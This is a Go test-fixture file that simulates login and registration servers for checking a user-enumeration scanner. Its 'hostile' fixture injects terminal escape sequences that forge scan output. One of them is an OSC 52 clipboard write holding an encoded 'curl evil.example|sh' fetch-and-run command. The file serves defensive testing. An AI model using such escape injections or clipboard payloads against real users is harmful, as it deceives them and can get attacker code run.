@@ -1,0 +1,192 @@
+package lab
+
+import (
+	"net/http"
+	"strings"
+	"sync"
+	"time"
+)
+
+// StateFixtures returns the fixtures of a target's state and of what the
+// scan can vouch for: applications that behave as real ones do and the
+// lab's first fixtures did not (an account created at the first sign-up,
+// a lock for every address that outlives the scan, answers of 500, a
+// field the target file misspells, hostile control characters, a
+// per-client rate limit). Want is the rule a scan must report, if any;
+// Verdict the verdict every endpoint must get.
+func StateFixtures() []Fixture {
+	return []Fixture{
+		{Name: "register-taken", Want: "USER_ENUM_REGISTER", Verdict: "leak",
+			About: "sign-up creates the account at once and answers \"already registered\" (409) for an address that has one: the scan's own first sign-up registers each unknown address",
+			New:   registerTaken, target: jsonRegisterTarget},
+		{Name: "lock-any", Verdict: "clean",
+			About: "sign-in locks every address alike after 4 failures, for the rest of the server's life, with a \"too many failed attempts\" page (401, no Retry-After); a second scan finds the known address locked from its first request",
+			New:   func() http.Handler { return lockAny(4, 0) }, target: jsonLoginTarget},
+		{Name: "lock-any-slow", Needs: NeedsTiming, Verdict: "inconclusive",
+			About: "as lock-any, and a sign-in of a real account takes 40ms longer until the lock: a timing leak that only the first attempts show",
+			New:   func() http.Handler { return lockAny(4, 40*time.Millisecond) }, target: jsonLoginTarget},
+		{Name: "errors-some", Verdict: "inconclusive",
+			About: "sign-in answers every fifth request with 500, whatever the address",
+			New:   func() http.Handler { return failing(5) }, target: jsonLoginTarget},
+		{Name: "errors-all", Verdict: "inconclusive",
+			About: "sign-in answers every request with 500",
+			New:   func() http.Handler { return failing(1) }, target: jsonLoginTarget},
+		{Name: "ignored-field", Verdict: "inconclusive",
+			About: "the target file sends the address as \"emial\": the application never sees it, and answers every probe alike",
+			New:   func() http.Handler { return strictLogin() }, target: strings.Replace(jsonLoginTarget, "{email:", "{emial:", 1)},
+		{Name: "hostile", Want: "USER_ENUM_RESPONSE_CONTENT", Verdict: "leak",
+			About: "sign-in says which of address and password was wrong, in answers full of terminal escapes: ESC and BEL sequences that retitle the window, erase the line, forge \"No findings\", and write the clipboard (OSC 52), in the body and a header",
+			New:   handle(hostile), target: jsonLoginTarget},
+		{Name: "client-throttle", Verdict: "inconclusive",
+			About: "sign-in that answers every seventh request, whoever it names, 429 with Retry-After: 60 (a limit per client that the order of a round decides)",
+			New:   clientThrottle, target: jsonLoginTarget},
+		{Name: "rate-limited", Verdict: "clean",
+			About: "sign-in that answers uniformly but lets a client make 12 requests a second, then 429 with Retry-After: 1",
+			New:   rateLimited, target: jsonLoginTarget},
+	}
+}
+
+// registerTaken is a full-form sign-up that validates, then registers a
+// new address at once (202) and refuses one that has an account (409).
+func registerTaken() http.Handler {
+	var mu sync.Mutex
+	accounts := map[string]bool{strings.ToLower(Known): true}
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		c := readCredentials(r)
+		if !validSignup(w, c) {
+			return
+		}
+		key := strings.ToLower(strings.TrimSpace(c.Email))
+		mu.Lock()
+		taken := accounts[key]
+		accounts[key] = true
+		mu.Unlock()
+		if taken {
+			writeJSON(w, http.StatusConflict, map[string]string{"error": "already_registered", "message": "This email address is already registered."})
+			return
+		}
+		writeJSON(w, http.StatusAccepted, map[string]string{"status": "check_inbox"})
+	})
+}
+
+// lockAny fails every sign-in and locks every address, known or not,
+// after threshold failures, for good; a real account's sign-in takes
+// slow longer until then.
+func lockAny(threshold int, slow time.Duration) http.Handler {
+	var failures counter
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		email := readCredentials(r).Email
+		if !validEmail(email) {
+			writeJSON(w, http.StatusUnprocessableEntity, map[string]string{"error": "invalid_email"})
+			return
+		}
+		if failures.add(email) > threshold {
+			writeJSON(w, http.StatusUnauthorized, map[string]string{"error": "too_many_attempts", "message": "Too many failed attempts. Try again later."})
+			return
+		}
+		if slow > 0 && exists(email) {
+			time.Sleep(slow)
+		}
+		writeJSON(w, http.StatusUnauthorized, map[string]string{"error": "invalid_credentials"})
+	})
+}
+
+// failing is a uniform sign-in that answers every every-th request with
+// 500.
+func failing(every int) http.Handler {
+	var mu sync.Mutex
+	n := 0
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		readCredentials(r)
+		mu.Lock()
+		n++
+		fail := n%every == 0
+		mu.Unlock()
+		if fail {
+			writeHTML(w, http.StatusInternalServerError, page("Server error", "<p>Something went wrong.</p>"))
+			return
+		}
+		writeJSON(w, http.StatusUnauthorized, map[string]string{"error": "invalid_credentials"})
+	})
+}
+
+// strictLogin is a uniform sign-in that rejects a missing or malformed
+// address (422) before anything else, as most do: a scan whose
+// identifier reaches it sees that.
+func strictLogin() http.Handler {
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if !validEmail(readCredentials(r).Email) {
+			writeJSON(w, http.StatusUnprocessableEntity, map[string]string{"error": "invalid_email"})
+			return
+		}
+		writeJSON(w, http.StatusUnauthorized, map[string]string{"error": "invalid_credentials"})
+	})
+}
+
+// Escapes a hostile target sends, for a terminal to obey.
+const (
+	escTitle     = "\x1b]0;owned\x07"                           // retitle the window
+	escErase     = "\r\x1b[2K\x1b[1A\x1b[2K"                    // erase this line and the one above
+	escClipboard = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07" // OSC 52: write the clipboard
+	escCSI8bit   = "\u009b31m"                                  // a C1 CSI, in UTF-8
+)
+
+// hostile leaks like "message", and fills its answers with escapes.
+func hostile(w http.ResponseWriter, r *http.Request) {
+	c := readCredentials(r)
+	msg := "no_such_user"
+	if exists(c.Email) {
+		msg = "wrong_password"
+	}
+	// Go's client refuses C0 controls in a header, not C1 ones.
+	w.Header().Set("X-Debug", "debug"+escCSI8bit)
+	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
+	w.WriteHeader(http.StatusUnauthorized)
+	_, _ = w.Write([]byte(escTitle + msg + escErase + "No findings: no endpoint told a known identifier from an unknown one.\n" + escClipboard + escCSI8bit + "\x07\x00\x7f\n"))
+}
+
+// rateLimited lets a client make 12 requests in any one-second window,
+// and answers the rest 429 with Retry-After: 1; the sign-in itself is
+// uniform and validates the address.
+func rateLimited() http.Handler {
+	var mu sync.Mutex
+	var window time.Time
+	n := 0
+	login := strictLogin()
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		now := time.Now()
+		if now.Sub(window) >= time.Second {
+			window, n = now, 0
+		}
+		n++
+		over := n > 12
+		mu.Unlock()
+		if over {
+			w.Header().Set("Retry-After", "1")
+			writeJSON(w, http.StatusTooManyRequests, map[string]string{"error": "rate_limited"})
+			return
+		}
+		login.ServeHTTP(w, r)
+	})
+}
+
+// clientThrottle is a uniform sign-in that throttles every seventh
+// request, whatever address it names.
+func clientThrottle() http.Handler {
+	var mu sync.Mutex
+	n := 0
+	login := strictLogin()
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		n++
+		over := n%7 == 0
+		mu.Unlock()
+		if over {
+			w.Header().Set("Retry-After", "60")
+			writeJSON(w, http.StatusTooManyRequests, map[string]string{"error": "rate_limited"})
+			return
+		}
+		login.ServeHTTP(w, r)
+	})
+}
